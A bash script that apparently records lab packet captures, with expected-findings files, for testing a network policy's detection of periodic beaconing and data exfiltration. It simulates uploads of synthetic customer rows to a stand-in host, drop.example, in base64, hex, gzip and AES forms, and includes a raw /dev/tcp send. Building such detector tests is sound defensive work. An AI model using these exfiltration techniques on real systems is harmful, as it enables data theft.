#!/usr/bin/env bash
# Records samples/exfiltration/: curl that calls a server again and again, with gaps of
# several laws, and uploads of the same file in several encodings. What must be found
# is written from how each was made: of the calls, from the times at which curl was
# started; of the uploads, from the encoding, the declared type and the size. Needs
# root, iproute2, tcpdump, python3, openssl, nginx, curl, xxd, gzip and zstd.
source "$(dirname "$0")/lib.sh"
out=${1:-$samples/exfiltration}
mkdir -p "$out"
gateway=10.20.0.53 steady=10.20.0.30 nearly=10.20.0.31 loose=10.20.0.32 memoryless=10.20.0.33 drop=10.20.0.40
cable $gateway $steady $nearly $loose $memoryless $drop
resolver $gateway www.example=$steady near.example=$nearly loose.example=$loose \
  memoryless.example=$memoryless drop.example=$drop
web <<CONF
  ssl_certificate $pki/rsa.pem; ssl_certificate_key $pki/rsa.key;
  default_type text/plain;
  client_max_body_size 64m; proxy_request_buffering off;
  server { listen $steady:443 ssl; location / { return 200 "nothing to do\n"; } }
  server { listen $nearly:80; location / { return 200 "nothing to do\n"; } }
  server { listen $loose:80; location / { return 200 "nothing to do\n"; } }
  server { listen $memoryless:80; location / { return 200 "nothing to do\n"; } }
  server { listen $drop:80; location / { proxy_pass http://127.0.0.1:8099; } }
CONF
serve python3 -B "$samples/api.py" 8099 open none
cat >"$work/drain.py" <<'PYTHON'
import socket
import sys
listener = socket.create_server((sys.argv[1], 4444))
while True:
    peer, _ = listener.accept()
    while peer.recv(1 << 16):
        pass
    peer.close()
PYTHON
serve python3 -B "$work/drain.py" $drop
sleep 2

# Twenty calls, each sleep drawn when the one before is over. The literal rule of the
# policy: ten connections or more whose gaps have a population coefficient of variation
# below 0.1. `calls.py` prints whether any ten or more of them from the first on have
# that; a law must be far from the threshold on either side.
cat >"$work/calls.py" <<'PYTHON'
import random
import statistics
import subprocess
import sys
import time

law, url, ca = sys.argv[1:]
draw = random.Random(law)
sleeps = {
    "constant": lambda: 2.0,
    "uniform-10": lambda: draw.uniform(1.8, 2.2),
    "uniform-50": lambda: draw.uniform(1.0, 3.0),
    "exponential": lambda: draw.expovariate(1 / 2.0),
}
times = []
for _ in range(20):
    times.append(time.monotonic())
    subprocess.run(["curl", "--silent", "--max-time", "5", "--cacert", ca, "--output", "/dev/null", url], check=True)
    time.sleep(sleeps[law]())
gaps = [later - before for before, later in zip(times, times[1:])]
lowest = min(statistics.pstdev(gaps[:n]) / statistics.fmean(gaps[:n]) for n in range(9, len(gaps) + 1))
if 0.08 < lowest < 0.12:
    sys.exit(f"{law}: too near to the threshold, record again: {lowest}")
print(1 if lowest < 0.1 else 0)
PYTHON
calls=()
start calls "host $steady or host $nearly or host $loose or host $memoryless or host $gateway"
for call in constant=https://www.example/ uniform-10=http://near.example/ uniform-50=http://loose.example/ \
  exponential=http://memoryless.example/; do
  inside python3 -B "$work/calls.py" "${call%%=*}" "${call#*=}" "$pki/ca.pem" >"$work/${call%%=*}.fires" &
  calls+=($!)
done
for call in "${calls[@]}"; do wait "$call"; done
stop
apart() { # apart NAME ADDRESS FINDINGS: what went there alone; of scores, only what the law settles
  local name=beacon-$1 fires
  fires=$(cat "$work/$1.fires")
  tcpdump -r "$work/calls.pcap" -w "$out/$name.pcap" "host $2" 2>>"$work/tcpdump.log"
  cat >"$out/$name.expect.json" <<JSON
{
  "made_by": "samples/record-exfiltration.sh",
  "capture": "$name.pcap",
  "literal": {"NS-04.periodic_beaconing": $fires}$3
}
JSON
}
apart constant $steady ',
  "tls": ['"$(printf '{"server_name": "www.example"}, %.0s' {1..20} | sed 's/, $//')"'],
  "findings": {"NS-04": ["NS-04.periodic_beaconing high www.example"]}'
apart uniform-10 $nearly ',
  "findings": {"NS-04": ["NS-04.periodic_beaconing high near.example"]}'
# Twenty connections of such a spread are for the score to weigh, and little to go by.
apart uniform-50 $loose ''
apart exponential $memoryless ',
  "findings": {"NS-04": []}'

# The file: 45 KB of rows, 60 KB of base64.
python3 -B - "$work" <<'PYTHON'
import pathlib
import random
import sys

draw, folder = random.Random(45), pathlib.Path(sys.argv[1])
rows = (f"{n},customer-{draw.randrange(10**6)},{draw.choice(['Delft', 'Utrecht', 'Leiden'])},{draw.random():.6f}\n"
        for n in range(100_000))
text = "".join(rows)
(folder / "rows.csv").write_text(text[:46_000])
(folder / "few.csv").write_text(text[:30_000])
# Just over and just under ten megabytes, of a kind that compresses.
(folder / "over.csv").write_text((text[:4_096] * 2_600)[: 10 * 1_048_576 + 1])
(folder / "under.csv").write_text((text[:4_096] * 2_600)[: 10 * 1_048_576])
PYTHON
cd "$work"
base64 -w 76 rows.csv | sed 's/$/\r/' >rows.mime
printf '{"data":"%s"}' "$(base64 -w 0 rows.csv | tr '+/' '-_' | tr -d '=')" >rows.json
base64 -w 0 rows.csv >rows.base64
base64 -w 0 few.csv >few.base64
xxd -p rows.csv >rows.hex
gzip -9nk rows.csv
aes() { openssl enc -aes-256-cbc -pbkdf2 -pass pass:not-a-secret "$@"; }
aes -in rows.csv -out rows.aes
aes -a -in rows.csv -out rows.pem

# upload NAME FINDINGS CURL-ARGUMENTS...: one request, or what the function does.
upload() {
  local name=upload-$1 findings=$2
  shift 2
  start "$name" "host $drop"
  "$@" >>clients.log 2>&1
  stop
  zstd -q -19 --long -f "$name.pcap" -o "$out/$name.pcap.zst"
  printf '{\n  "made_by": "samples/record-exfiltration.sh",\n  "capture": "%s.pcap.zst",\n  "findings": {"NS-04": [%s]}\n}\n' \
    "$name" "$findings" >"$out/$name.expect.json"
}
put() { # put FILE TYPE CURL-ARGUMENTS...
  inside curl --silent --fail --max-time 60 --output answer --user-agent agent/7 -H "content-type: $2" \
    -H 'expect:' --data-binary "@$1" "${@:3}" http://drop.example/v1/files
}
base64='"NS-04.base64_exfiltration high drop.example"'
even='"NS-04.high_entropy_payload medium drop.example"'
upload plain '' put rows.csv text/csv
upload base64-mime "$base64" put rows.mime text/plain
upload base64url-json "$base64" put rows.json application/json
upload base64-form "$base64" inside curl --silent --fail --output answer --data-urlencode data@rows.base64 \
  http://drop.example/v1/files
# Less than the 50 KB of the policy; and no base64.
upload base64-small '' put few.base64 text/plain
upload hex '' put rows.hex text/plain
# Compressed: by its type, by its coding, and without a word.
upload gzip-type '' put rows.csv.gz application/gzip
upload gzip-coding '' put rows.csv.gz text/csv -H 'content-encoding: gzip'
upload gzip-silent "$even" put rows.csv.gz application/octet-stream
# Encrypted: as it is, as base64, and without HTTP around it.
upload aes "$even" put rows.aes application/octet-stream
upload aes-base64 "$base64" put rows.pem text/plain
upload aes-tcp '"NS-04.high_entropy_payload medium '$drop'"' inside bash -c "cat rows.aes >/dev/tcp/$drop/4444"
# Ten megabytes are allowed in one request, and one byte more is not.
upload volume-under '' put under.csv text/csv
upload volume-over '"NS-04.volume_single_request high drop.example"' put over.csv text/csv
